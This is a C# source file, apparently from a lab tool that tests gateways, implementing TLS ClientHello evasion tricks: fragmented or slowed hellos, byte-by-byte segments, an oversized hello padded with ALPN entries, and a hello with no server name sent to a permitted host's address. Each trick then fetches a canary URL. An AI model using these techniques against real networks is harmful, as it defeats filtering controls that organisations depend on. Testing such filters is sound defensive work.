using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace Exeat.Lab.Attacks;

/// <summary>TLS that a gateway cannot read as it would like to.</summary>
internal static class TlsTricks
{
    // 240 protocols of 250 letters: a hello of 60 KB.
    private const int ManyProtocols = 240;
    private const int LongProtocol = 250;

    /// <summary>A hello cut in two with a pause between: whoever decides on the first piece decides without the name.</summary>
    public static Task<bool> HelloInPiecesAsync(AttackTarget target) => InPiecesAsync(target, 20, 2, TimeSpan.FromMilliseconds(100));

    /// <summary>Twenty pieces, one every 50 ms: longer than the client's own patience with a peer that does not acknowledge.</summary>
    public static Task<bool> HelloInTwentyPiecesAsync(AttackTarget target) => InPiecesAsync(target, 12, 20, TimeSpan.FromMilliseconds(50));

    /// <summary>Four pieces, 300 ms apart: each after a retransmission time-out.</summary>
    public static Task<bool> SlowHelloAsync(AttackTarget target) => InPiecesAsync(target, 60, 4, TimeSpan.FromMilliseconds(300));

    /// <summary>A segment for each byte, at once.</summary>
    public static Task<bool> HelloByteByByteAsync(AttackTarget target) => InPiecesAsync(target, 1, int.MaxValue, TimeSpan.Zero);

    /// <summary>A write for each byte, with Nagle's algorithm: the second segment waits for the first one's acknowledgement (RFC 1122, 4.2.3.4).</summary>
    public static Task<bool> HelloByNagleAsync(AttackTarget target) => InPiecesAsync(target, 1, int.MaxValue, TimeSpan.Zero, noDelay: false);

    /// <summary>A hello of 60 KB: more segments than a client sends before an acknowledgement (RFC 6928).</summary>
    public static async Task<bool> HugeHelloAsync(AttackTarget target)
    {
        // Asked for, so that the name is bound to its own address; the target may be another.
        await target.ResolveAsync();
        using Socket socket = await AttackTarget.ConnectAsync(target.EndPoint);
        await using var stream = new NetworkStream(socket);
        return await RequestAsync(stream, target, target.Name, [.. Enumerable.Range(0, ManyProtocols).Select(i => new SslApplicationProtocol($"{i}".PadLeft(LongProtocol, 'x')))]);
    }

    private static async Task<bool> InPiecesAsync(AttackTarget target, int bytes, int most, TimeSpan pause, bool noDelay = true)
    {
        await target.ResolveAsync();
        using Socket socket = await AttackTarget.ConnectAsync(target.EndPoint);
        socket.NoDelay = noDelay;
        await using var pieces = new PiecewiseStream(socket, bytes, most, pause);
        return await RequestAsync(pieces, target, target.Name);
    }

    /// <summary>A hello that names nobody, to the address of a permitted name.</summary>
    public static async Task<bool> NoNameAsync(AttackTarget target)
    {
        using Socket socket = await AttackTarget.ConnectAsync(new IPEndPoint(await target.ResolveAsync(), target.Port));
        await using var stream = new NetworkStream(socket);
        return await RequestAsync(stream, target, "");
    }

    private static async Task<bool> RequestAsync(NetworkStream stream, AttackTarget target, string serverName, List<SslApplicationProtocol>? protocols = null)
    {
        await using SslStream secured = AttackTarget.Tls(stream);
        using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
        await secured.AuthenticateAsClientAsync(new SslClientAuthenticationOptions { TargetHost = serverName, ApplicationProtocols = protocols }, limit.Token);
        await secured.WriteAsync(Encoding.ASCII.GetBytes($"GET /canary/{target.Canary} HTTP/1.1\r\nHost: {target.Name}\r\nConnection: close\r\n\r\n"), limit.Token);
        return await secured.ReadAsync(new byte[64], limit.Token) > 0;
    }
}
